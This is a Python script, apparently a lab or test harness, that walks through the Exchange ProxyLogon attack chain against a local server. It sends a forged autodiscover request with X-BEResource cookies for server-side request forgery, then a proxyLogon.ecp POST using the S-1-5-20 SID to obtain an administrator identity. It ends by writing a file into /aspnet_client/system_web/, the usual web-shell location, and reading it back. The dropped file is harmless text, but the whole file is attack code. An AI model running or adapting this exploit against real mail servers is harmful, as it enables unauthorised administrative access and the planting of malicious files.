# ruff: noqa
import http.client as hc
import sys

HEADERS_BROWSER = [
    (
        "User-Agent",
        "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
    ),
    ("x-requested-with", "XMLHttpRequest"),
    ("Accept", "*/*"),
    ("accept-language", "en-US,en;q=0.9"),
    ("connection", "close"),
]
UA = HEADERS_BROWSER[0][1]


def go(conn, verb, target, pairs, payload=None):
    for attempt in range(5):
        try:
            conn.putrequest(verb, target, skip_accept_encoding=False)
            for k, v in pairs:
                conn.putheader(k, v)
            if payload is not None:
                conn.putheader("Content-Length", str(len(payload)))
            conn.endheaders(payload)
            r = conn.getresponse()
            return r.status, r.read(1024)
        except (OSError, hc.HTTPException):
            conn.close()
    sys.exit("gave up")


def main():
    port = int(sys.argv[1])
    c = hc.HTTPConnection("127.0.0.1", port, timeout=10)
    ck = "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522"
    q = (
        "Pad="
        + "A" * 37
        + "&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720"
    )
    status, _ = go(
        c, "GET", "/autodiscover/autodiscover.json?" + q, HEADERS_BROWSER + [("cookie", ck)]
    )
    if status >= 500:
        return 1
    body = b'{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}'
    status, data = go(
        c,
        "POST",
        "/ecp/proxyLogon.ecp",
        [
            ("user-agent", UA),
            ("msexchlogonmailbox", "S-1-5-20"),
            ("content-type", "application/json"),
            ("X-BEResource", "localhost@lab.invalid/ecp/proxyLogon.ecp"),
        ],
        body,
    )
    who = data.decode("utf-8", "replace").strip() if status == 200 else "anonymous"
    loc = "/aspnet_client/system_web/readme_91453.txt"
    note = "\n".join("note %d of 3 for %s" % (i + 1, who) for i in range(3)).encode("utf-8")
    go(
        c,
        "POST",
        loc,
        [("user-agent", UA), ("X-Note-Path", loc), ("Content-Type", "text/plain")],
        note,
    )
    go(c, "GET", loc, HEADERS_BROWSER)
    c.close()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
